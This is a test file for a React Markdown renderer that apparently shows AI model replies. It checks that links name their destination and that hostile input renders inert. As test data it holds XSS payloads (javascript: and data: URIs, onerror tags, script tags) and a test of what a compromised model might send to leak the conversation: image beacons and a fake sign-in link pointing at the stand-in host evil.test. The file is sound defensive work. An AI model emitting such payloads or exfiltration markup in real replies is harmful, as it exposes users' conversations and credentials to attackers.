import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import { Markdown } from './Markdown.tsx';

const html = (text: string): string => renderToStaticMarkup(<Markdown text={text} />);
const link = (href: string, inside: string) =>
  `<a href="${href}" target="_blank" rel="noopener noreferrer nofollow">${inside}</a>`;
/** What the page is made of, without the words. */
const tags = (text: string): string[] =>
  [...new Set([...html(text).matchAll(/<([a-z0-9]+)/g)].map(([, tag]) => tag ?? ''))].sort();

describe('what people write', () => {
  test.each([
    ['**a** *b* ~~c~~ `d<e`', '<p><strong>a</strong> <em>b</em> <del>c</del> <code>d&lt;e</code></p>'],
    ['one\ntwo  \nthree', '<p>one\ntwo<br/>three</p>'],
    ['# Title', '<p><strong>Title</strong></p>'],
    ['> a\n>\n> b', '<blockquote><p>a</p><p>b</p></blockquote>'],
    ['- a\n- b', '<ul><li>a</li><li>b</li></ul>'],
    ['- a\n\n- b', '<ul><li><p>a</p></li><li><p>b</p></li></ul>'],
    ['3. a\n4. b', '<ol start="3"><li>a</li><li>b</li></ol>'],
    ['- [x] a\n- [ ] b', '<ul><li>☑ a</li><li>☐ b</li></ul>'],
    ['```js\n<b>\n```', '<pre><code>&lt;b&gt;</code></pre>'],
    [
      '| a | b |\n|---|--:|\n| 1 | 2 |',
      '<div class="scroll" tabindex="0"><table><thead><tr><th>a</th><th align="right">b</th></tr></thead><tbody><tr><td>1</td><td align="right">2</td></tr></tbody></table></div>',
    ],
    ['a\n\n---\n\nb', '<p>a</p><hr/><p>b</p>'],
    [
      '\\*no\\* 2 &lt; 3 &amp; &#8364; &#x1F600; &unknown; &toString;',
      '<p>*no* 2 &lt; 3 &amp; € 😀 &amp;unknown; &amp;toString;</p>',
    ],
    ['a `&amp;` b', '<p>a <code>&amp;amp;</code> b</p>'],
    ['', ''],
  ])('%j', (text, expected) => expect(html(text)).toBe(expected));

  test('half a reply is shown as far as it goes', () => {
    expect(html('a **b')).toBe('<p>a **b</p>');
    expect(html('see [the pa')).toBe('<p>see [the pa</p>');
    expect(html('```\ncode')).toBe('<pre><code>code</code></pre>');
  });
});

describe('a link says where it goes', () => {
  test.each([
    ['[here](https://a.test/x?y=1&z=2)', link('https://a.test/x?y=1&amp;z=2', 'here (a.test)')],
    ['[bank.test](https://evil.test/)', link('https://evil.test/', 'bank.test (evil.test)')],
    ['[bank.test evil.test](https://evil.test/)', link('https://evil.test/', 'bank.test evil.test (evil.test)')],
    ['[evil.test](https://evil.test/a)', link('https://evil.test/a', 'evil.test')],
    ['[**a**](https://a.test)', link('https://a.test/', '<strong>a</strong> (a.test)')],
    ['https://a.test/b', link('https://a.test/b', 'https://a.test/b')],
    ['<https://a.test/b>', link('https://a.test/b', 'https://a.test/b')],
    ['www.a.test', link('http://www.a.test/', 'www.a.test')],
    ['me@a.test', link('mailto:me@a.test', 'me@a.test')],
    ['[write](mailto:me@a.test?subject=x)', link('mailto:me@a.test?subject=x', 'write (me@a.test)')],
    ['[a][r]\n\n[r]: https://a.test/ "t"', link('https://a.test/', 'a (a.test)')],
    [
      '<https://bank.test@evil.test/>',
      link('https://bank.test@evil.test/', 'https://bank.test@evil.test/ (evil.test)'),
    ],
    ['<https://bаnk.test/>', link('https://xn--bnk-6cd.test/', 'https://bаnk.test/ (xn--bnk-6cd.test)')],
    ['[https://bank.test/](https:\\\\evil.test/)', link('https://evil.test/', 'https://bank.test/ (evil.test)')],
  ])('%j', (text, expected) => expect(html(text)).toBe(`<p>${expected}</p>`));
});

describe('a hostile message', () => {
  test.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](<java\tscript:alert(1)>)',
    '[x](< javascript:alert(1)>)',
    '[x](java&#115;cript:alert(1))',
    '[x](&#x6A;avascript&colon;alert(1))',
    '[x](javascript&#58;alert(1))',
    '[x](java&#10;script&#58;alert(1))',
    '[x](&#1;javascript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:x)',
    '[x](file:///etc/passwd)',
    '[x](blob:https://a.test/1)',
    '[x](//evil.test/a)',
    '[x](/sign-out)',
    '[x](#content)',
    '[x](https://)',
    '[x](view-source:javascript:1)',
    '<javascript:alert(1)>',
    '<data:text/html,x>',
    '[x][r]\n\n[r]: javascript:alert(1)',
    '![x](javascript:alert(1))',
    '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
    '[![x](javascript:1)](javascript:2)',
  ])('no link from %j', (text) => expect(tags(text)).toEqual(['p']));

  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'a <b onclick=alert(1)>b</b>',
    '<div><p><a href="javascript:1">x</a></p></div>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<!-- <img src=x> -->',
    '<a href="https://evil.test">bank.test</a>',
    '<iframe src="https://evil.test"></iframe>',
    '<style>*{display:none}</style>',
    '<?php x ?>',
    '<![CDATA[<b>]]>',
    '&lt;img src=x onerror=alert(1)&gt;',
  ])('the HTML of %j is text', (text) => {
    expect(tags(text)).toEqual(['p']);
    expect(
      html(text).replaceAll('&quot;', '"').replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&amp;', '&'),
    ).toContain(text.replaceAll('&lt;', '<').replaceAll('&gt;', '>'));
  });

  test('HTML inside Markdown inside HTML is text', () => {
    expect(tags('<div>\n\n**a** <img src=x onerror=alert(1)>\n\n</div>\n\n- <script>\n  x\n  </script>')).toEqual([
      'li',
      'p',
      'strong',
      'ul',
    ]);
    expect(tags('| <img src=x> |\n|---|\n| <script>x</script> |')).not.toContain('img');
    expect(html('```"><img src=x>\nx\n```')).toBe('<pre><code>x</code></pre>');
  });

  test('an image is never loaded: its words lead to it', () => {
    expect(html('![a cat](https://a.test/cat.png "t")')).toBe(
      `<p>${link('https://a.test/cat.png', 'a cat (a.test)')}</p>`,
    );
    expect(html('![](https://a.test/cat.png)')).toBe(`<p>${link('https://a.test/cat.png', 'image (a.test)')}</p>`);
    expect(html('![a][r]\n\n[r]: https://a.test/c.png')).toBe(`<p>${link('https://a.test/c.png', 'a (a.test)')}</p>`);
    expect(html('[![a](https://a.test/c.png)](https://b.test/)')).toBe(
      `<p>${link('https://b.test/', 'a (b.test)')}</p>`,
    );
  });

  // What a compromised model would answer to carry the conversation away, or to have somebody do it.
  test('a reply that wants to send the conversation elsewhere loads nothing and hides no address', () => {
    const reply = [
      '![ ](https://evil.test/log?said=my+secret)',
      '[![](https://evil.test/p.png?said=1)](https://evil.test/?said=2)',
      '<img src="https://evil.test/?said=3"><link rel="stylesheet" href="https://evil.test/a.css">',
      '<form action="https://evil.test/"><input name="password"></form>',
      '[Sign in again](https://evil.test/sign-in?from=rapport)',
      '[your record](/privacy) [open](javascript:fetch("https://evil.test"))',
      '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    ].join('\n\n');
    expect(tags(reply)).toEqual(['a', 'p']);
    for (const [, inside] of html(reply).matchAll(/<a [^>]*>(.*?)<\/a>/g)) expect(inside).toMatch(/\(evil\.test\)$/);
    expect(html(reply)).not.toMatch(/<[^>]*(?:\ssrc=|style=|\son|javascript:)/);
  });

  test('no link inside a link', () => {
    expect(html('[a https://b.test c](https://a.test/)').match(/<a /g)).toHaveLength(1);
    expect(html('[a [b](https://b.test) c](https://a.test/)').match(/<a [^>]*>(?:(?!<\/a>).)*<a /)).toBeNull();
  });

  test('names of the language are no references', () => {
    expect(html('[__proto__] [constructor][] [a][toString]')).toBe(
      '<p>[<strong>proto</strong>] [constructor][] [a][toString]</p>',
    );
  });

  const n = 20_000;
  test.each([
    ['quotes', '>'.repeat(n)],
    ['quotes with spaces', '> '.repeat(n)],
    ['lists', '- '.repeat(n)],
    ['numbered lists', '1. '.repeat(n)],
    ['lists and quotes', '> - '.repeat(n)],
    ['lists ever deeper', Array.from({ length: 180 }, (_, i) => `${' '.repeat(2 * i)}- a`).join('\n')],
    ['brackets', '['.repeat(n)],
    ['images', '!['.repeat(n)],
    ['closed brackets', '['.repeat(n) + ']'.repeat(n)],
    ['links', '[a]('.repeat(n)],
    ['stars', '*'.repeat(n)],
    ['opened emphasis', '*a '.repeat(n)],
    ['opened strong', '**a '.repeat(n)],
    ['mixed emphasis', '*a _b '.repeat(n)],
    ['nested emphasis', '*a **b '.repeat(n / 2) + 'c** d*'.repeat(n / 2)],
    ['underscores', '_a '.repeat(n)],
    ['tildes', '~~a '.repeat(n)],
    ['backticks', Array.from({ length: 250 }, (_, i) => '`'.repeat(i)).join(' ')],
    ['tags', '<a '.repeat(n)],
    ['closed tags', '<b>'.repeat(n)],
    ['comments', '<!--'.repeat(n)],
    ['references', '[a]: b\n'.repeat(n / 4)],
    ['pipes', '|'.repeat(n)],
    ['table', '|a'.repeat(n) + '\n' + '|-'.repeat(n)],
    ['spaces', `a${' '.repeat(n)}b`],
    ['lines', '\n'.repeat(n)],
    ['entities', '&#x'.repeat(n)],
    ['mail', 'a@'.repeat(n)],
    ['mail dots', 'a.'.repeat(n) + '@'],
    ['mail names', 'a_b*c='.repeat(n / 4) + '@'],
    ['www', 'www.'.repeat(n)],
    ['setext', 'a\n'.repeat(n) + '='],
    ['escapes', '\\'.repeat(n)],
    ['fences', '```\n'.repeat(n)],
  ])('20,000 times %s ends soon, not in the stack', (_name, text) => {
    const start = performance.now();
    expect(typeof html(text)).toBe('string');
    expect(performance.now() - start).toBeLessThan(3000);
  });

  // The longest message there can be, of nothing but what is looked for the other half of.
  test.each(['_a', '*a', '**a ', '~~a', '[a', '<a ', '`a', '\\a', '&a', 'a@', '|a', '*a _b ', '_a\n', '[a](', '<b>'])(
    'a longest message of %j takes no longer than a moment',
    (piece) => {
      // The second is just short enough to be read as Markdown.
      for (const letters of [32_000, 3400]) {
        const text = piece.repeat(Math.floor(letters / piece.length));
        const start = performance.now();
        expect(html(text).length).toBeGreaterThanOrEqual(text.trim().length);
        expect(performance.now() - start).toBeLessThan(700);
      }
    },
  );

  test('a long reply as models write it keeps its form', () => {
    const part =
      '## Title\n\nSome **strong** and *soft* words, `code` and a [link](https://a.test/).\n\n- one\n- two\n\n';
    expect(tags(part.repeat(200))).toEqual(expect.arrayContaining(['a', 'code', 'em', 'li', 'strong', 'ul']));
  });
});
